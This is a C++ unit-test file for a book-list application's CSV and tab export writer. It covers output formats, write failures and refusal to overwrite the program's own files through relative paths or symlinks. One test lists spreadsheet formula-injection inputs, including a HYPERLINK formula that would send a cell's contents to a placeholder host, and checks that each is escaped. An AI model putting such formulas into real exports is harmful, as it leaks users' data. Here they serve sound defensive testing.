#include "maintenance/export_writer.h"

#include <gtest/gtest.h>

#include "app/list_rows.h"
#include "booklist/booklist.h"
#include "support/test_folder.h"
#include "support/test_services.h"

namespace {

// Loads the small fixture booklist (with its matches) and lists it as the main list would.
class ExportWriter : public ::testing::Test {
  protected:
    void SetUp() override {
        for (const char* name : {"Booklist.tul", "Matches.tul", "TULVersion.txt"}) {
            std::filesystem::copy_file(TestData("booklist-small") / name, name);
        }
        TestServices services;
        booklist_ = LoadBooklist(CurrentDataFolder(), services);
        FilterState everything;
        everything.matchFilter = MatchFilterEverything;
        for (const auto packed : StageBookList(booklist_, everything, AustralianAll)) {
            rows_.emplace_back(SplitPackedLine(packed)[FieldId]);
        }
    }
    std::string Export(ExportFormat format, const ExportFieldSet& fields) {
        EXPECT_TRUE(WriteExportFile(booklist_, CurrentDataFolder(), "out", format, fields, rows_));
        return ReadFile("out");
    }
    TestFolder folder_;
    Booklist booklist_;
    std::vector<std::string> rows_;
};

}  // namespace

TEST_F(ExportWriter, CommaFormatWithTheDialogDefaults) {
    EXPECT_EQ(Export(ExportFormat::Comma, DefaultExportFields()),
              ReadFile(TestData("export") / "comma-defaults.csv"));
}

TEST_F(ExportWriter, TabFormatWithEveryField) {
    ExportFieldSet all;
    all.fill(true);
    EXPECT_EQ(Export(ExportFormat::Tab, all), ReadFile(TestData("export") / "tab-all.txt"));
}

TEST_F(ExportWriter, NoFieldsGiveEmptyLinesOnly) {
    EXPECT_EQ(Export(ExportFormat::Comma, ExportFieldSet{}),
              ReadFile(TestData("export") / "no-fields.csv"));
}

TEST_F(ExportWriter, WritesOnlyTheGivenRowsInTheirOrder) {
    rows_ = {"5", "12", "999"};  // an id not in the booklist gives an empty record
    ExportFieldSet idAndTitle{};
    idAndTitle[0] = idAndTitle[1] = true;
    EXPECT_EQ(Export(ExportFormat::Tab, idAndTitle),
              "Id\tTitle\r\n5\tEnd Game\r\n12\tThe \"Quoted\" Owl\r\n0\t\r\n");
}

TEST_F(ExportWriter, ReportsAFileThatCannotBeCreatedOrWritten) {
    const FileWriteResult missingFolder =
        WriteExportFile(booklist_, CurrentDataFolder(), "no-such-folder/out.csv",
                        ExportFormat::Comma, DefaultExportFields(), rows_);
    EXPECT_EQ(missingFolder.reason, "No such file or directory");

    WriteFile("out.csv", "earlier export");
    FailNextFileAfter(100);
    const FileWriteResult full = WriteExportFile(booklist_, CurrentDataFolder(), "out.csv",
                                                 ExportFormat::Comma, DefaultExportFields(), rows_);
    EXPECT_FALSE(full.written);
    EXPECT_EQ(ReadFile("out.csv"), "earlier export");  // no partial file in its place
}

TEST_F(ExportWriter, RefusesToWriteOverTheProgramsOwnFiles) {
    std::filesystem::create_directory("sub");
    std::filesystem::create_symlink("../Booklist.tul", "sub/list-link");
    const std::string booklist = ReadFile("Booklist.tul");
    const std::string matches = ReadFile("Matches.tul");
    for (const std::string& target : std::vector<std::string>{
             "Booklist.tul", "./Matches.tul", "sub/../TULVersion.txt", "sub/list-link",
             "OUTPUT.MRC", "sub/../OUTPUT.MRC", "MatchReview.txt", "V.txt", "TULBookList.txt",
             "TULNewBooks.txt", "Server.txt", ".tallyleaf.lock", "Settings.txt", "Rejected.tul",
             "Tallyleaf.pdf", (std::filesystem::current_path() / "Matches.tul").string()}) {
        const FileWriteResult result =
            WriteExportFile(booklist_, CurrentDataFolder(), target, ExportFormat::Comma,
                            DefaultExportFields(), rows_);
        EXPECT_FALSE(result.written) << target;
        EXPECT_NE(result.reason.find("own data files"), std::string::npos) << target;
    }
    EXPECT_EQ(ReadFile("Booklist.tul"), booklist);
    EXPECT_EQ(ReadFile("Matches.tul"), matches);
    EXPECT_FALSE(FileExists("OUTPUT.MRC"));
    // Names that only look alike are the user's to choose.
    EXPECT_TRUE(WriteExportFile(booklist_, CurrentDataFolder(), "sub/Booklist.tul",
                                ExportFormat::Comma, DefaultExportFields(), rows_));
    EXPECT_TRUE(WriteExportFile(booklist_, CurrentDataFolder(), "Booklist.tul.csv",
                                ExportFormat::Comma, DefaultExportFields(), rows_));
}

TEST(ExportLevels, EachLineGetsTheBandOfItsOwnLevel) {
    // More level texts than the writer keeps the bands of, twice over.
    const std::string levels[] = {"Early Years (R-2)",
                                  "r-2",
                                  "Primary Years (3-5)",
                                  "3-5",
                                  "Middle Years (6-9, Special)",
                                  "6-9",
                                  "Mature",
                                  "",
                                  "R-2 and 3-5",
                                  "Years 3-5 and 6-9",
                                  "x"};
    const std::string bands = "11223344124";
    std::vector<std::string> lines;
    std::string expected = "Levels\r\n";
    for (std::size_t i = 0; i < 2 * bands.size(); ++i) {
        BookRecord record;
        record.id = static_cast<std::int64_t>(i) + 1;
        record.level = levels[i % bands.size()];
        lines.push_back(PackBookRecord(record));
        expected += bands.substr(i % bands.size(), 1) + "\r\n";
    }
    const TestFolder folder;
    ExportFieldSet levelsOnly{};
    for (int i = 0; i < ExportFieldCount; ++i)
        levelsOnly[i] = ExportFields()[i].name == "levels";
    ASSERT_TRUE(WriteExportLines(CurrentDataFolder(), "out", ExportFormat::Tab, levelsOnly,
                                 std::vector<std::string_view>(lines.begin(), lines.end())));
    EXPECT_EQ(ReadFile("out"), expected);
}

TEST(ExportValue, WhatASpreadsheetWouldRunGetsAnApostrophe) {
    const std::pair<std::string, std::string> cases[] = {
        {"=HYPERLINK(\"http://x\"&A1,\"x\")", "'=HYPERLINK(\"http://x\"&A1,\"x\")"},
        {"+1+1", "'+1+1"},
        {"-2*3", "'-2*3"},
        {"@SUM(A1)", "'@SUM(A1)"},
        {"\t=1", "'\t=1"},
        {"\r=1", "'\r=1"},
        {"-", "'-"},
        {"+.5", "'+.5"},
        {"1.", "1."},
        {"-42", "-42"},
        {"+3.25", "+3.25"},
        {"823 DAH", "823 DAH"},
        {"a=b", "a=b"},
        {"", ""},
    };
    for (const auto& [value, cell] : cases) {
        std::string tab;
        AppendExportValue(tab, value, ExportFormat::Tab);
        EXPECT_EQ(tab, "\t" + cell) << value;
        std::string comma;
        AppendExportValue(comma, value, ExportFormat::Comma);
        std::string quoted;
        for (const char c : cell)
            quoted.append(c == '"' ? 2 : 1, c);
        EXPECT_EQ(comma, ",\"" + quoted + "\"") << value;
    }
}

TEST(ExportFields, HeaderOfTheIdColumnIsId) {
    EXPECT_EQ(ExportLine(nullptr, DefaultExportFields(), ExportFormat::Comma),
              "\"Id\",\"Title\",\"Author\",\"Levels\",\"Library call number\"");
    EXPECT_EQ(ExportFields()[0].checkBoxText, "ID");
}
